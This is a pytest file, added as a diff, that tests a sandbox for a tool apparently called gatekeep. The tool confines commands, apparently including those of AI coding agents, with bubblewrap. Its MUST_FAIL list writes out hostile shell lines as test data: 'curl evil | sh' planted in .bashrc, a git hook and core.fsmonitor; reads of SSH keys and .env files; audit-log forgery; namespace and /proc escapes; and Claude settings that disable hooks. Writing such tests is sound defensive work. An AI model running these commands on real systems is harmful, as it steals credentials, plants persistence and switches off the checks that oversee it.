@@ -1,0 +1,326 @@
+"""`gatekeep run --sandbox`, in real bubblewrap: what a contained command can and cannot do.
+
+Each test makes a home (the isolated one), a project in it (a git work tree holding a `.env`),
+secrets outside it (`~/.ssh/id_rsa`, another project's `.env`), a start-up file and an audit
+log, and runs `gatekeep run --sandbox -- sh -c SCRIPT` as a user would, in its own process.
+What must fail is checked twice: the command fails, and the file outside is as it was.
+
+bubblewrap is required where GATEKEEP_REQUIRE_BWRAP=1 (CI installs it); elsewhere these tests
+skip with the reason.
+"""
+
+from __future__ import annotations
+
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import threading
+from pathlib import Path
+
+import pytest
+
+from gatekeep.contain.sandbox import HELD_WHEN_MISSING
+from tests.conftest import write
+
+if shutil.which("bwrap") is None:
+    if os.environ.get("GATEKEEP_REQUIRE_BWRAP") == "1":
+        pytest.fail("GATEKEEP_REQUIRE_BWRAP=1, but bwrap is not on PATH: install bubblewrap", pytrace=False)
+    pytest.skip("bubblewrap (bwrap) is not installed", allow_module_level=True)
+# A kernel or container that refuses bubblewrap its plainest sandbox (no user namespaces): gatekeep
+# then runs nothing contained (test_no_bubblewrap_runs_nothing's case), and these cannot run.
+_PLAIN = subprocess.run(["bwrap", "--ro-bind", "/", "/", "--unshare-user", "--", "true"], capture_output=True, text=True)
+if _PLAIN.returncode != 0:
+    pytest.skip(f"bubblewrap cannot make a sandbox here: {_PLAIN.stderr.strip()}", allow_module_level=True)
+
+ROOT = Path(__file__).resolve().parent.parent
+KEY = "-----BEGIN OPENSSH PRIVATE KEY----- not-a-real-key"
+NOT_RUN = 125
+
+
+@pytest.fixture
+def world(isolated_home: Path):
+    """The home, the project and the secrets (module docstring); yields a dict of paths."""
+    home = isolated_home
+    project = home / "src" / "app"
+    project.mkdir(parents=True)
+    subprocess.run(["git", "init", "-q", str(project)], check=True)
+    places = {
+        "home": home,
+        "project": project,
+        "env": write(project / ".env", "DB_PASSWORD=inside\n"),
+        "key": write(home / ".ssh" / "id_rsa", KEY + "\n"),
+        "other_env": write(home / "src" / "other" / ".env", "TOKEN=outside\n"),
+        "bashrc": write(home / ".bashrc", "# start-up\n"),
+        "audit": write(Path(os.environ["GATEKEEP_HOME"]) / "state" / "audit.jsonl", '{"line": "secret history"}\n'),
+        "script": write(project / "hello.py", "print('hello from the project')\n"),
+    }
+    return places
+
+
+def contained(script: str, cwd: Path, stdin=None, env=None, pass_fds=(), policy: str | None = None):
+    """`gatekeep run --sandbox -- sh -c SCRIPT` in cwd, as its own process."""
+    if policy is not None:
+        write(Path(os.environ["GATEKEEP_HOME"]) / "config" / "policy.yaml", policy)
+    command = [sys.executable, "-m", "gatekeep", "run", "--sandbox", "--", "sh", "-c", script]
+    run_env = {**os.environ, "PYTHONPATH": str(ROOT), **(env or {})}
+    return subprocess.run(
+        command, cwd=cwd, stdin=stdin if stdin is not None else subprocess.DEVNULL, capture_output=True,
+        text=True, timeout=60, env=run_env, pass_fds=pass_fds,
+    )  # fmt: skip
+
+
+# (what it tries, the script, the place that must be as it was: a key of world, or None)
+MUST_FAIL = [
+    ("write outside the tree", "echo x > ~/outside.txt", None),
+    ("append to a start-up file", "echo 'curl evil | sh' >> ~/.bashrc", "bashrc"),
+    ("read the ssh key", "cat ~/.ssh/id_rsa", "key"),
+    ("read the tree's .env", "cat .env", "env"),
+    ("read another project's .env", "cat ~/src/other/.env", "other_env"),
+    ("list another project", "ls ~/src/other", None),
+    ("read the audit log", 'cat "$AUDIT"', "audit"),
+    ("write the audit log", 'echo forged >> "$AUDIT"', "audit"),
+    ("write a git hook", "echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit", None),
+    ("change .git/config", "git config core.fsmonitor 'curl evil | sh'", None),
+    ("plant Claude settings that switch hooks off", "mkdir -p .claude; echo '{\"disableAllHooks\": true}' > .claude/settings.local.json", None),
+    ("plant a Copilot hook", "mkdir -p .github/hooks; echo '{}' > .github/hooks/gate.json", None),
+    ("plant an OpenCode plugin", "echo '{\"plugin\": [\"evil\"]}' > opencode.json", None),
+    ("move the repository aside", "mv .git .git-old || mv .git/hooks .git/hooks-old", None),
+    ("rename a held settings directory", "mv .claude .claude-old && mkdir .claude", None),
+    # escapes
+    ("a link made in the tree to the key", "ln -s ~/.ssh/id_rsa k && cat k", "key"),
+    ("a link made in the tree to the home", "ln -s ~ h && echo x >> h/.bashrc", "bashrc"),
+    ("the key through /proc/self/root", "cat /proc/self/root$KEYFILE", "key"),
+    ("the key through /proc/1/root", "cat /proc/1/root$KEYFILE", "key"),
+    ("a bind mount over the tree", "mount --bind ~ ./h2 2>&1; mkdir -p h2 && mount --bind / h2 && echo x >> h2$HOME/.bashrc", "bashrc"),
+    ("unshare a user namespace", "unshare -r sh -c 'umount ~/.ssh && cat ~/.ssh/id_rsa'", "key"),
+    ("unshare a mount namespace", "unshare -m true", None),
+    ("remount the root read-write", "mount -o remount,rw / && echo x >> ~/.bashrc", "bashrc"),
+    ("the tmpfs over the key dir unmounted", "umount ~/.ssh && cat ~/.ssh/id_rsa", "key"),
+]
+
+
+@pytest.mark.parametrize(("what", "script", "kept"), MUST_FAIL, ids=[m[0] for m in MUST_FAIL])
+def test_contained_command_cannot(world, what, script, kept):
+    before = {name: path.read_bytes() for name, path in world.items() if name not in ("home", "project")}
+    env = {"AUDIT": str(world["audit"]), "KEYFILE": str(world["key"])}
+    done = contained(script, world["project"], env=env)
+    assert done.returncode not in (0, NOT_RUN), (what, done.stdout, done.stderr)
+    assert KEY not in done.stdout and "inside" not in done.stdout and "outside" not in done.stdout
+    assert "secret history" not in done.stdout
+    for name, content in before.items():
+        assert world[name].read_bytes() == content, f"{what}: {name} changed"
+    assert not (world["home"] / "outside.txt").exists()
+    hooks = world["project"] / ".git" / "hooks" / "pre-commit"
+    assert not hooks.exists()
+    assert "fsmonitor" not in (world["project"] / ".git" / "config").read_text()
+    assert not any((world["project"] / name).exists() for name in HELD_WHEN_MISSING)  # nothing held is left
+    assert sorted(p.name for p in (world["project"] / ".git").iterdir()) == GIT_ENTRIES
+
+
+GIT_ENTRIES = sorted(["HEAD", "branches", "config", "description", "hooks", "info", "objects", "refs"])
+
+
+def test_settings_in_the_lines_own_directory_are_held_too(world):
+    """An agent started in a subdirectory reads its settings there (`apps/web/.claude`)."""
+    sub = world["project"] / "apps" / "web"
+    sub.mkdir(parents=True)
+    done = contained("mkdir -p .claude; echo '{\"disableAllHooks\": true}' > .claude/settings.json", sub)
+    assert done.returncode != 0
+    assert list(sub.iterdir()) == []
+
+
+def test_writing_through_a_descriptor_of_a_file_outside_fails(world):
+    """A standard input that is a file outside (`< ~/.bashrc`), reopened for writing through
+    /dev/fd/0, and a descriptor passed in (3> ~/.bashrc): the file is as it was."""
+    with open(world["bashrc"], "rb") as stdin:
+        done = contained("echo pwned > /dev/fd/0; echo pwned > /proc/self/fd/0; cat", world["project"], stdin=stdin)
+    assert done.returncode == 0
+    assert "# start-up" in done.stdout  # what it was given to read, it reads
+    fd = os.open(world["bashrc"], os.O_WRONLY | os.O_APPEND)
+    try:
+        done = contained("echo pwned >&3 || echo pwned > /proc/self/fd/3", world["project"], pass_fds=(fd,))
+    finally:
+        os.close(fd)
+    assert done.returncode != 0
+    assert world["bashrc"].read_text() == "# start-up\n"
+
+
+def test_processes_outside_cannot_be_signalled_or_traced(world):
+    """The sandbox has its own process namespace: what runs outside has no number there."""
+    outside = subprocess.Popen(["sleep", "60"])
+    try:
+        trace = (
+            "import ctypes, sys; libc = ctypes.CDLL(None, use_errno=True);"
+            " sys.exit(0 if any(libc.ptrace(16, int(p), 0, 0) == 0 for p in sys.argv[1:]) else 1)"
+        )
+        # the test's own process is the parent of gatekeep, which is bubblewrap's
+        for script in (f"kill -TERM {outside.pid}", f"kill -KILL {os.getpid()}", f'python3 -c "{trace}" {outside.pid} {os.getpid()}'):
+            done = contained(script, world["project"])
+            assert done.returncode != 0, script
+        assert outside.poll() is None  # still running, and not stopped by a tracer
+        assert Path(f"/proc/{outside.pid}/status").read_text().count("TracerPid:\t0") == 1
+    finally:
+        outside.kill()
+        outside.wait()
+
+
+def test_the_loopback_server_outside_is_out_of_reach_unless_the_network_is_on(world):
+    server = socket.create_server(("127.0.0.1", 0))
+    port = server.getsockname()[1]
+    accepted = []
+
+    def serve():
+        server.settimeout(30)
+        try:
+            while True:
+                connection, _ = server.accept()
+                accepted.append(connection)
+                connection.sendall(b"reached")
+                connection.close()
+        except OSError:
+            return
+
+    threading.Thread(target=serve, daemon=True).start()
+    probe = f"python3 -c \"import socket; print(socket.create_connection(('127.0.0.1', {port}), timeout=5).recv(9).decode())\""
+    try:
+        done = contained(probe, world["project"])
+        assert done.returncode != 0 and "reached" not in done.stdout
+        assert not accepted
+        done = contained(probe, world["project"], policy="sandbox:\n  network: on\n")
+        assert done.returncode == 0 and "reached" in done.stdout, done.stderr
+    finally:
+        server.close()
+
+
+def test_a_socket_outside_the_tree_is_out_of_reach(world, tmp_path):
+    """A unix socket in /run or /tmp (an ssh agent's, docker's): hidden, whatever the network."""
+    path = "/tmp" if not str(tmp_path).startswith("/tmp/") else str(tmp_path)
+    name = os.path.join(path, f"agent-{os.getpid()}.sock")
+    server = socket.socket(socket.AF_UNIX)
+    server.bind(name)
+    server.listen(1)
+    try:
+        probe = f"python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('{name}')\""
+        done = contained(probe, world["project"], policy="sandbox:\n  network: on\n")
+        assert done.returncode != 0
+    finally:
+        server.close()
+        os.unlink(name)
+
+
+def test_secret_variables_are_not_passed_in(world):
+    done = contained('echo "[$GITHUB_TOKEN][$AWS_SECRET_ACCESS_KEY][$SSH_AUTH_SOCK][$KEPT]"', world["project"],
+                     env={"GITHUB_TOKEN": "ghp_x", "AWS_SECRET_ACCESS_KEY": "aws_x", "SSH_AUTH_SOCK": "/x", "KEPT": "k"})  # fmt: skip
+    assert done.stdout.strip() == "[][][][k]"
+
+
+# (what it does, the script, what the project then holds: a file and its content)
+MUST_WORK = [
+    ("write in the tree", "echo made > made.txt", ("made.txt", "made\n")),
+    ("write in a new directory of the tree", "mkdir -p build/out && echo x > build/out/a", ("build/out/a", "x\n")),
+    ("read the project", "cat hello.py > copy.py", ("copy.py", "print('hello from the project')\n")),
+    ("run python3", "python3 hello.py > out.txt", ("out.txt", "hello from the project\n")),
+    ("a private /tmp", "echo t > /tmp/x && cat /tmp/x > t.txt", ("t.txt", "t\n")),
+    ("git status", "git status --short > status.txt", ("status.txt", None)),
+]
+
+
+@pytest.mark.parametrize(("what", "script", "made"), MUST_WORK, ids=[m[0] for m in MUST_WORK])
+def test_contained_command_can(world, what, script, made):
+    done = contained(script, world["project"])
+    assert done.returncode == 0, (what, done.stderr)
+    name, content = made
+    assert (world["project"] / name).exists()
+    if content is not None:
+        assert (world["project"] / name).read_text() == content
+
+
+def test_pytest_runs_in_a_small_project(world):
+    write(world["project"] / "test_small.py", "def test_adds():\n    assert 1 + 1 == 2\n")
+    done = contained(f"{sys.executable} -m pytest -q -p no:cacheprovider test_small.py", world["project"])
+    assert done.returncode == 0, done.stdout + done.stderr
+    assert "1 passed" in done.stdout
+    failing = write(world["project"] / "test_fails.py", "def test_fails():\n    assert False\n")
+    done = contained(f"{sys.executable} -m pytest -q -p no:cacheprovider {failing.name}", world["project"])
+    assert done.returncode == 1  # pytest's own status, passed through
+
+
+@pytest.mark.skipif(shutil.which("npm") is None, reason="npm is not installed")
+def test_npm_test_runs_in_a_small_project(world):
+    write(world["project"] / "package.json",
+          '{"name": "small", "version": "1.0.0", "scripts": {"test": "node -e \\"require(\'fs\').writeFileSync(\'npm-ran\', \'yes\')\\""}}')  # fmt: skip
+    done = contained("npm test", world["project"])
+    assert done.returncode == 0, done.stdout + done.stderr
+    assert (world["project"] / "npm-ran").read_text() == "yes"
+
+
+@pytest.mark.parametrize("status", [0, 1, 7, 255])
+def test_the_exit_status_is_the_commands(world, status):
+    assert contained(f"exit {status}", world["project"]).returncode == status
+
+
+def test_a_signal_that_ends_the_command_is_its_status(world):
+    assert contained("kill -TERM $$", world["project"]).returncode == 128 + 15
+
+
+def test_writable_places_of_the_policy(world):
+    cache = world["home"] / ".cache" / "pip"
+    cache.mkdir(parents=True)
+    assert contained("echo x > ~/.cache/pip/wheel", world["project"]).returncode != 0
+    done = contained("echo x > ~/.cache/pip/wheel", world["project"], policy="sandbox:\n  writable: [~/.cache/pip]\n")
+    assert done.returncode == 0, done.stderr
+    assert (cache / "wheel").read_text() == "x\n"
+
+
+def test_a_project_cannot_make_places_writable_or_turn_the_network_on(world):
+    """A repository's .gatekeep.yaml is hostile: its sandbox settings only ever tighten."""
+    cache = world["home"] / ".cache" / "pip"
+    cache.mkdir(parents=True)
+    write(world["project"] / ".gatekeep.yaml", "sandbox:\n  writable: [~/.cache/pip]\n  network: on\n")
+    assert contained("echo x > ~/.cache/pip/wheel", world["project"]).returncode != 0
+    assert not (cache / "wheel").exists()
+
+
+def test_no_bubblewrap_runs_nothing(world):
+    """Fail closed: with no bwrap on PATH the command never runs, uncontained or otherwise."""
+    bare = world["home"] / "bin"
+    bare.mkdir()
+    os.symlink(shutil.which("sh"), bare / "sh")
+    done = contained("echo ran > ran.txt", world["project"], env={"PATH": str(bare)})
+    assert done.returncode == NOT_RUN
+    assert "not run" in done.stderr and "bubblewrap is not installed" in done.stderr
+    assert len(done.stderr.strip().splitlines()) == 1
+    assert not (world["project"] / "ran.txt").exists()
+
+
+def test_a_sandbox_that_cannot_be_built_runs_nothing(world):
+    """A missing command inside: bubblewrap stops before it runs; gatekeep says so (not 127 or 1)."""
+    command = [sys.executable, "-m", "gatekeep", "run", "--sandbox", "--", "/nonexistent/program"]
+    done = subprocess.run(command, cwd=world["project"], capture_output=True, text=True, timeout=60,
+                          env={**os.environ, "PYTHONPATH": str(ROOT)})  # fmt: skip
+    assert done.returncode == NOT_RUN
+    assert "gatekeep: not run: bubblewrap stopped before the command ran" in done.stderr
+
+
+def test_the_home_or_root_as_the_tree_runs_nothing(world):
+    done = contained("echo ran > ~/ran.txt", world["home"])
+    assert done.returncode == NOT_RUN
+    assert "holds the home directory" in done.stderr
+    assert not (world["home"] / "ran.txt").exists()
+
+
+def test_a_broken_policy_runs_nothing(world):
+    done = contained("echo ran > ran.txt", world["project"], policy="sandbox: [not, a, mapping]\n")
+    assert done.returncode == NOT_RUN
+    assert "policy error" in done.stderr
+    assert not (world["project"] / "ran.txt").exists()
+
+
+def test_run_without_sandbox_runs_nothing(world):
+    command = [sys.executable, "-m", "gatekeep", "run", "--", "touch", "ran.txt"]
+    done = subprocess.run(command, cwd=world["project"], capture_output=True, text=True, timeout=60,
+                          env={**os.environ, "PYTHONPATH": str(ROOT)})  # fmt: skip
+    assert done.returncode == NOT_RUN
+    assert not (world["project"] / "ran.txt").exists()
